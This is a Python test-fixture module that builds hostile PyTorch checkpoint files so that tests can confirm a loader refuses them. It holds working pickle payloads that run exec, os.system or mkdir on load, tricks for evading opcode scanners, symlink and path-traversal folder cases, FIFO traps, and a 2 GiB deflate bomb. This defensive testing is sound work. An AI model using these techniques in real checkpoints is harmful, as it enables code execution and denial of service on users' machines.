"""Hostile checkpoint files: each runs a payload when unpickled without restrictions.

Every case is a pickle of a different shape, assembled opcode by opcode where `pickle.dumps`
would not produce it: names computed at load time behind STACK_GLOBAL with decoy strings
where an opcode scanner looks (the attack that walked around ds_engine's old opcode check),
memo overwrites, nested REDUCE, INST / OBJ / NEWOBJ / NEWOBJ_EX, BUILD that plants a
`__setstate__`, a payload inside a `persistent_load` id, the copyreg extension registry
(EXT1 / EXT2 / EXT4), protocols 0 to 5, and torch's zip and legacy containers.

A payload leaves a trace: it creates `marker_dir/<case name>` (a file or a folder) or imports
a module nothing else imports (`SENTINEL_MODULES`). `tests/unit/test_untrusted_files.py`
proves each file really is hostile (an unrestricted `torch.load` in a fresh process leaves the
trace) and that every ds_engine entry point refuses it, naming the file, with no trace.
"""

from __future__ import annotations

import contextlib
import copyreg
import pickle
import struct
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import torch

# Modules no code path of torch, DeepSpeed, transformers or ds_engine imports.
SENTINEL_MODULES = ("poplib", "tabnanny", "mailbox")
# (module, name, code) registered in copyreg's extension registry while EXT cases load: a
# process where some library registered extensions is where EXT opcodes resolve.
EXTENSIONS = (("builtins", "exec", 0xF0), ("builtins", "eval", 0x1F2F), ("posix", "mkdir", 0x1F2F3F4F))


# --------------------------------------------------------------------------- opcode helpers
def _u2(text: str) -> bytes:  # BINUNICODE (protocol 1+)
    data = text.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _u4(text: str) -> bytes:  # SHORT_BINUNICODE (protocol 4+)
    data = text.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _stack_global(module: str, name: str) -> bytes:
    return _u4(module) + _u4(name) + pickle.STACK_GLOBAL


def _frame(body: bytes, protocol: int) -> bytes:  # FRAME: protocol 4+ as pickle.dumps writes it
    return pickle.PROTO + bytes([protocol]) + pickle.FRAME + struct.pack("<Q", len(body)) + body


def _codecs_rot13(text: str, decoy: str = "strict") -> bytes:
    """Push `text`, computed at load time as `_codecs.encode(rot13(text), 'rot13', decoy)`.

    `_codecs.encode` is on torch's own weights-only allowlist, so torch's restricted unpickler
    really runs this call; the third argument (the error handler, unused for ASCII letters)
    is the last string an opcode scanner sees before the call's result.
    """
    import codecs

    args = _u2(codecs.encode(text, "rot13")) + _u2("rot13") + _u2(decoy)
    return _global("_codecs", "encode") + args + pickle.TUPLE3 + pickle.REDUCE


def _exec_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# --------------------------------------------------------------------------- the cases
def reduce_exec(m: Path) -> bytes:
    """Protocol 2, the classic: GLOBAL builtins.exec, REDUCE, inside a state-dict-like dict."""
    payload = _global("builtins", "exec") + _u2(_exec_code(m)) + pickle.TUPLE1 + pickle.REDUCE
    body = pickle.EMPTY_DICT + _u2("module") + payload + pickle.SETITEM
    return pickle.PROTO + b"\x02" + body + pickle.STOP


def stack_global_codecs(m: Path) -> bytes:
    """Protocol 4, the reviewer's attack: module and name computed by allowlisted `_codecs.encode`
    calls whose last string arguments are the decoys `collections` / `OrderedDict`, memoized and
    fed to STACK_GLOBAL: a scanner guessing from the strings before it reads a harmless name."""
    return (
        pickle.PROTO
        + b"\x04"
        + _codecs_rot13("builtins", decoy="collections")
        + pickle.BINPUT
        + b"\x00"
        + _codecs_rot13("exec", decoy="OrderedDict")
        + pickle.BINPUT
        + b"\x01"
        + pickle.BINGET
        + b"\x00"
        + pickle.BINGET
        + b"\x01"
        + pickle.STACK_GLOBAL
        + _u2(_exec_code(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


def stack_global_str_bytes(m: Path) -> bytes:
    """Protocol 5: names decoded at load time by `builtins.str(bytearray, 'ascii')` from
    BYTEARRAY8 data (no string opcode holds them), decoys before STACK_GLOBAL."""

    def decoded(text: str) -> bytes:
        raw = text.encode()
        return (
            _stack_global("builtins", "str")
            + pickle.BYTEARRAY8
            + struct.pack("<Q", len(raw))
            + raw
            + _u4("ascii")
            + pickle.TUPLE2
            + pickle.REDUCE
        )

    body = (
        decoded("builtins")
        + decoded("exec")
        + _u4("torch._utils")
        + _u4("_rebuild_tensor_v2")
        + pickle.POP
        + pickle.POP
        + pickle.STACK_GLOBAL
        + _u4(_exec_code(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )
    return _frame(body, 5)


def memo_overwrite(m: Path) -> bytes:
    """Protocol 4: memo slots 0/1 first hold the strings `collections` / `OrderedDict`, then
    BINPUT overwrites them with computed names; BINGET 0 / BINGET 1 feed STACK_GLOBAL."""
    return (
        pickle.PROTO
        + b"\x04"
        + _u2("collections")
        + pickle.BINPUT
        + b"\x00"
        + _u2("OrderedDict")
        + pickle.BINPUT
        + b"\x01"
        + _codecs_rot13("builtins")
        + pickle.BINPUT
        + b"\x00"
        + _codecs_rot13("exec")
        + pickle.BINPUT
        + b"\x01"
        + pickle.BINGET
        + b"\x00"
        + pickle.BINGET
        + b"\x01"
        + pickle.STACK_GLOBAL
        + _u2(_exec_code(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


def nested_reduce(m: Path) -> bytes:
    """Protocol 2: getattr(__import__('os'), 'system')('touch ...'): REDUCE inside REDUCE."""
    return (
        pickle.PROTO
        + b"\x02"
        + _global("builtins", "getattr")
        + _global("builtins", "__import__")
        + _u2("os")
        + pickle.TUPLE1
        + pickle.REDUCE
        + _u2("system")
        + pickle.TUPLE2
        + pickle.REDUCE
        + _u2(f"touch '{m}'")
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


def method_via_getattr(m: Path) -> bytes:
    """Protocol 2: getattr(pathlib.Path(marker), 'touch')(): a method of an object the pickle built."""
    return (
        pickle.PROTO
        + b"\x02"
        + _global("builtins", "getattr")
        + _global("pathlib", "Path")
        + _u2(str(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + _u2("touch")
        + pickle.TUPLE2
        + pickle.REDUCE
        + pickle.EMPTY_TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


def inst_protocol0(m: Path) -> bytes:
    """Protocol 0 text: MARK, STRING argument, INST builtins.exec (INST calls the class/callable)."""
    code = _exec_code(m).replace("'", '"')
    return b"(S'" + code.encode() + b"'\nibuiltins\nexec\n."


def obj_protocol1(m: Path) -> bytes:
    """Protocol 1: MARK, GLOBAL builtins.exec, BINUNICODE argument, OBJ."""
    return pickle.MARK + _global("builtins", "exec") + _u2(_exec_code(m)) + pickle.OBJ + pickle.STOP


def global_protocol0(m: Path) -> bytes:
    """Protocol 0 text, the oldest form: c builtins exec, (S'...' t R."""
    code = _exec_code(m).replace("'", '"')
    return b"cbuiltins\nexec\n(S'" + code.encode() + b"'\ntR."


def newobj_partial(m: Path) -> bytes:
    """Protocol 2: NEWOBJ builds functools.partial(exec, code) through partial.__new__; REDUCE calls it."""
    return (
        pickle.PROTO
        + b"\x02"
        + _global("functools", "partial")
        + _global("builtins", "exec")
        + _u2(_exec_code(m))
        + pickle.TUPLE2
        + pickle.NEWOBJ
        + pickle.EMPTY_TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


def newobj_ex_partial(m: Path) -> bytes:
    """Protocol 4: NEWOBJ_EX(functools.partial, (exec, code), {}), then REDUCE."""
    body = (
        _stack_global("functools", "partial")
        + _stack_global("builtins", "exec")
        + _u4(_exec_code(m))
        + pickle.TUPLE2
        + pickle.EMPTY_DICT
        + pickle.NEWOBJ_EX
        + pickle.EMPTY_TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )
    return _frame(body, 4)


def build_setstate(m: Path) -> bytes:
    """Protocol 2: BUILD {'__setstate__': exec} on an argparse.Namespace, then BUILD code: the
    unpickler calls the planted `__setstate__`."""
    return (
        pickle.PROTO
        + b"\x02"
        + _global("argparse", "Namespace")
        + pickle.EMPTY_TUPLE
        + pickle.REDUCE
        + pickle.EMPTY_DICT
        + _u2("__setstate__")
        + _global("builtins", "exec")
        + pickle.SETITEM
        + pickle.BUILD
        + _u2(_exec_code(m))
        + pickle.BUILD
        + pickle.STOP
    )


def persistent_id_payload(m: Path) -> bytes:
    """Protocol 2: the payload runs while the unpickler builds a persistent id for `persistent_load`."""
    return (
        pickle.PROTO
        + b"\x02"
        + _u2("storage")
        + _global("builtins", "exec")
        + _u2(_exec_code(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.TUPLE2
        + pickle.BINPERSID
        + pickle.STOP
    )


def ext1(m: Path) -> bytes:
    """Protocol 2: EXT1 names builtins.exec through copyreg's extension registry."""
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.EXT1
        + bytes([0xF0])
        + _u2(_exec_code(m))
        + pickle.TUPLE1
        + (pickle.REDUCE + pickle.STOP)
    )


def ext2(m: Path) -> bytes:
    """Protocol 2: EXT2 names builtins.eval through copyreg's extension registry."""
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.EXT2
        + struct.pack("<H", 0x1F2F)
        + _u2(_exec_code(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


def ext4(m: Path) -> bytes:
    """Protocol 2: EXT4 names posix.mkdir through copyreg's extension registry."""
    return (
        pickle.PROTO
        + b"\x02"
        + pickle.EXT4
        + struct.pack("<i", 0x1F2F3F4F)
        + _u2(str(m))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )


class _Reduce:
    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


def import_protocol3(m: Path) -> bytes:
    """Protocol 3 as `pickle.dumps` writes it: importlib.import_module('poplib')."""
    import importlib

    return pickle.dumps({"step": _Reduce(importlib.import_module, "poplib")}, protocol=3)


def mkdir_protocol5(m: Path) -> bytes:
    """Protocol 5 as `pickle.dumps` writes it (framed, STACK_GLOBAL, MEMOIZE): os.mkdir(marker)."""
    import os

    return pickle.dumps([_Reduce(os.mkdir, str(m))], protocol=5)


def import_builtins_protocol1(m: Path) -> bytes:
    """Protocol 1 as `pickle.dumps` writes it: builtins.__import__('tabnanny')."""
    return pickle.dumps(_Reduce(__import__, "tabnanny"), protocol=1)


def nested_in_state_dict(m: Path) -> bytes:
    """What torch.save writes for a real optimizer state with one hostile value deep inside it
    (protocol 2, tensors as persistent ids): importlib.import_module('mailbox')."""
    import importlib
    import io

    state = {  # the hostile value comes before the tensor: data.pkl travels without its storages
        "optimizer_state_dict": {
            "zero_stage": 2,
            "param_groups": [{"lr": 0.1, "hook": _Reduce(importlib.import_module, "mailbox")}],
            "state": {0: {"exp_avg": torch.zeros(3)}},
        }
    }
    buffer = io.BytesIO()
    torch.save(state, buffer)
    with __import__("zipfile").ZipFile(buffer) as archive:
        return archive.read(next(n for n in archive.namelist() if n.endswith("data.pkl")))


@dataclass(frozen=True)
class Hostile:
    """One hostile file: `build(marker)` gives its pickle, `container` how it is stored."""

    name: str
    build: Callable[[Path], bytes]
    container: Literal["zip", "legacy", "raw"]
    sentinel: str | None = None  # the module its payload imports, if that is its trace


CASES: tuple[Hostile, ...] = (
    Hostile("reduce_exec_zip", reduce_exec, "zip"),
    Hostile("reduce_exec_legacy", reduce_exec, "legacy"),
    Hostile("stack_global_codecs", stack_global_codecs, "zip"),
    Hostile("stack_global_str_bytes", stack_global_str_bytes, "zip"),
    Hostile("memo_overwrite", memo_overwrite, "zip"),
    Hostile("nested_reduce", nested_reduce, "zip"),
    Hostile("method_via_getattr", method_via_getattr, "legacy"),
    Hostile("inst_protocol0", inst_protocol0, "raw"),
    Hostile("obj_protocol1", obj_protocol1, "raw"),
    Hostile("global_protocol0", global_protocol0, "zip"),
    Hostile("newobj_partial", newobj_partial, "zip"),
    Hostile("newobj_ex_partial", newobj_ex_partial, "zip"),
    Hostile("build_setstate", build_setstate, "zip"),
    Hostile("persistent_id_payload", persistent_id_payload, "zip"),
    Hostile("ext1", ext1, "zip"),
    Hostile("ext2", ext2, "legacy"),
    Hostile("ext4", ext4, "zip"),
    Hostile("import_protocol3", import_protocol3, "zip", sentinel="poplib"),
    Hostile("mkdir_protocol5", mkdir_protocol5, "raw"),
    Hostile("import_builtins_protocol1", import_builtins_protocol1, "legacy", sentinel="tabnanny"),
    Hostile("nested_in_state_dict", nested_in_state_dict, "zip", sentinel="mailbox"),
)


# --------------------------------------------------------------------------- writing and checking
class _RawPickler:
    """A `pickle_module` for `torch.save` that writes given bytes as the archive's data.pkl."""

    class Pickler:
        def __init__(self, file: Any, protocol: int = 2) -> None:
            self.file = file

        def dump(self, data: bytes) -> None:
            self.file.write(data)


def write(case: Hostile, path: Path, marker_dir: Path) -> Path:
    """Write `case` to `path`; its payload would leave `marker_dir / case.name`."""
    data = case.build(marker_dir / case.name)
    if case.container == "zip":  # torch.save's own zip writer, with this pickle as data.pkl
        torch.save(data, path, pickle_module=_RawPickler)
    elif case.container == "legacy":  # torch's legacy format: magic, version, sys info, the object
        from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

        info = {"protocol_version": PROTOCOL_VERSION, "little_endian": True, "type_sizes": {}}
        head = b"".join(pickle.dumps(x, protocol=2) for x in (MAGIC_NUMBER, PROTOCOL_VERSION, info))
        path.write_bytes(head + data + pickle.dumps([], protocol=2))
    else:  # a bare pickle: torch.load unpickles it as the legacy format's magic number
        path.write_bytes(data)
    return path


@contextlib.contextmanager
def extensions_registered() -> Iterator[None]:
    """copyreg's extension registry holds the codes the EXT cases use (removed afterwards)."""
    for module, name, code in EXTENSIONS:
        copyreg.add_extension(module, name, code)
    try:
        yield
    finally:
        for module, name, code in EXTENSIONS:
            copyreg.remove_extension(module, name, code)


def traces(marker_dir: Path, cases: tuple[Hostile, ...] = CASES) -> list[str]:
    """The traces payloads left: marker files or folders, and sentinel modules imported."""
    found = [c.name for c in cases if (marker_dir / c.name).exists()]
    return found + [f"import {m}" for m in SENTINEL_MODULES if m in sys.modules]


# =========================================================================== hostile folders
# A checkpoint folder is untrusted as a whole, not only its pickles: its `latest` file, its tag
# folders and the names in them may point elsewhere (`..`, an absolute path, a symbolic link),
# or be something other than a regular file (a FIFO blocks `open` forever). Each case below
# plants one such thing into a copy of a good checkpoint folder `root`, beside which lies
# `outside`, another good checkpoint of the same layout that must never be read. Only files
# a load reads matter: a stray FIFO that nothing needs is left alone (the last cases).
#
# `tests/unit/test_checkpoint_confinement.py` runs every case through `Engine.load_checkpoint`
# (a fallback checkpoint) and `ds-engine consolidate` (a DeepSpeed ZeRO-0 layout).

SECRET_LINE = "s3cr3t-first-line-of-a-system-file"


@dataclass(frozen=True)
class HostileFolder:
    """`plant(root, tag, victim, outside)` changes `root` and returns the tag to ask for (None:
    the one `latest` names); `refused` is the error a load must stop with (None: it loads)."""

    name: str
    plant: Callable[[Path, str, str, Path], str | None]
    refused: str | None


def _latest(text: str) -> Callable[[Path, str, str, Path], str | None]:
    def plant(root: Path, tag: str, victim: str, outside: Path) -> str | None:
        (root / "latest").write_text(text.format(outside=outside, tag=tag))
        return None

    return plant


def _latest_link_to_secret(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    secret = outside.parent / "passwd"
    secret.write_text(f"{SECRET_LINE}\nsecond line\n")
    (root / "latest").unlink()
    (root / "latest").symlink_to(secret)
    return None


def _latest_huge(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / "latest").write_text(tag + "\n" * (8 * 1024**2))
    return None


def _mkfifo(path: Path) -> None:
    import os

    os.mkfifo(path)


def _latest_fifo(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / "latest").unlink()
    _mkfifo(root / "latest")
    return None


def _tag_link_outside(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / "other").symlink_to(outside / tag, target_is_directory=True)
    (root / "latest").write_text("other")
    return None


def _state_link_outside(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / tag / victim).unlink()
    (root / tag / victim).symlink_to(outside / tag / victim)
    return None


def _state_fifo(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / tag / victim).unlink()
    _mkfifo(root / tag / victim)
    return None


def _stray_fifo(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    _mkfifo(root / tag / "extra_notes.pt")  # a `*.pt` no load reads
    return None


def _stray_link(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / tag / "backup.pt").symlink_to(outside / tag / victim)
    return None


def _tag_argument(text: str) -> Callable[[Path, str, str, Path], str | None]:
    def plant(root: Path, tag: str, victim: str, outside: Path) -> str | None:
        return text.format(outside=outside, tag=tag)

    return plant


_NOT_A_TAG = r"does not hold a tag name .*HINT: pass one of them with `(tag=|--tag)`"
_LINK = r"is a symbolic link; .*HINT: "

FOLDER_CASES: tuple[HostileFolder, ...] = (
    HostileFolder("latest_dotdot", _latest("../outside/{tag}"), _NOT_A_TAG),
    HostileFolder("latest_dotdot_deep", _latest("../../{outside}/{tag}"), _NOT_A_TAG),
    HostileFolder("latest_absolute", _latest("{outside}/{tag}"), _NOT_A_TAG),
    HostileFolder("latest_dot", _latest("."), _NOT_A_TAG),
    HostileFolder("latest_is_latest", _latest("latest"), _NOT_A_TAG),
    HostileFolder("latest_link_to_a_system_file", _latest_link_to_secret, r"latest`: it is a symbolic link"),
    HostileFolder(
        "latest_huge", _latest_huge, r"latest' is 8\.0 MiB, more than the 4\.0 KiB a `latest` file may"
    ),
    HostileFolder("latest_fifo", _latest_fifo, r"latest`: it is a FIFO \(named pipe\), not a regular file"),
    HostileFolder("tag_folder_link_outside", _tag_link_outside, r"refusing to read tag 'other': .*" + _LINK),
    HostileFolder(
        "state_file_link_outside", _state_link_outside, r"refusing to read `.*/{victim}`: it " + _LINK
    ),
    HostileFolder("state_file_fifo", _state_fifo, r"refusing to read `.*/{victim}`: it is a FIFO .*HINT"),
    HostileFolder("tag_argument_dotdot", _tag_argument("../outside/{tag}"), r"is not a tag name; .*HINT"),
    HostileFolder("tag_argument_absolute", _tag_argument("{outside}/{tag}"), r"is not a tag name; .*HINT"),
    HostileFolder("stray_fifo_nothing_reads", _stray_fifo, None),
    HostileFolder("stray_link_nothing_reads", _stray_link, None),
)


# =========================================================================== inflation bombs
# A pickle need not be large on disk to be large in memory: a zip entry is deflated, and torch's
# reader inflates the whole `data.pkl` before unpickling a byte of it. `deflate_bomb` writes a
# torch zip archive of about 2 MiB whose `data.pkl`, one string, inflates to `inflated` bytes
# (2 GiB by default). Built without ever holding the inflated bytes: after a full flush the
# compressor has no history, so each repeated megabyte compresses to the same bytes.


def _zip_entry(name: str, data: bytes, method: int, crc: int, size: int, offset: int) -> tuple[bytes, bytes]:
    """(local header + data, central directory record) of one zip entry, sizes under 4 GiB."""
    raw = name.encode()
    common = struct.pack("<HHHHHIII", 20, 0, method, 0, 0x21, crc, len(data), size)
    local = struct.pack("<I", 0x04034B50) + common + struct.pack("<HH", len(raw), 0) + raw + data
    central = (
        struct.pack("<IH", 0x02014B50, 20)
        + common
        + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, offset)
        + raw
    )
    return local, central


def deflate_bomb(path: Path, inflated: int = 2 * 1024**3) -> Path:
    """A `torch.save` zip archive whose deflated `data.pkl` is one string of about `inflated` bytes."""
    import io
    import zipfile
    import zlib

    chunk_size = 1024**2
    count = max(1, inflated // chunk_size)
    head = pickle.PROTO + b"\x02" + pickle.BINUNICODE + struct.pack("<I", count * chunk_size)
    tail = pickle.STOP
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"a" * chunk_size
    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert piece == again  # no history after a full flush: every megabyte deflates alike
    last = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    deflated = first + piece * count + last
    size = len(head) + count * chunk_size + len(tail)

    template = io.BytesIO()
    torch.save("x", template)
    with zipfile.ZipFile(template) as archive:
        others = [(i.filename, archive.read(i)) for i in archive.infolist()]
    pickle_name = next(name for name, _ in others if name.endswith("data.pkl"))
    locals_, centrals, offset = [], [], 0
    for name, data in others:
        if name == pickle_name:
            local, central = _zip_entry(name, deflated, zipfile.ZIP_DEFLATED, crc, size, offset)
        else:
            local, central = _zip_entry(name, data, zipfile.ZIP_STORED, zlib.crc32(data), len(data), offset)
        locals_.append(local)
        centrals.append(central)
        offset += len(local)
    directory = b"".join(centrals)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(centrals), len(centrals), len(directory), offset, 0)
    path.write_bytes(b"".join(locals_) + directory + end)
    return path


def _latest_folder(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / "latest").unlink()
    (root / "latest").mkdir()
    return None


def _state_folder(root: Path, tag: str, victim: str, outside: Path) -> str | None:
    (root / tag / victim).unlink()
    (root / tag / victim).mkdir()
    return None


_FOLDER_AS_FILE = r"(Is a directory: '.*/{victim}'|{victim}' cannot be read: Is a directory\. HINT)"
FOLDER_CASES += (
    HostileFolder(
        "latest_is_a_folder", _latest_folder, r"latest' is a folder; allowed: a `latest` file .*HINT"
    ),
    HostileFolder("state_file_is_a_folder", _state_folder, _FOLDER_AS_FILE),
)
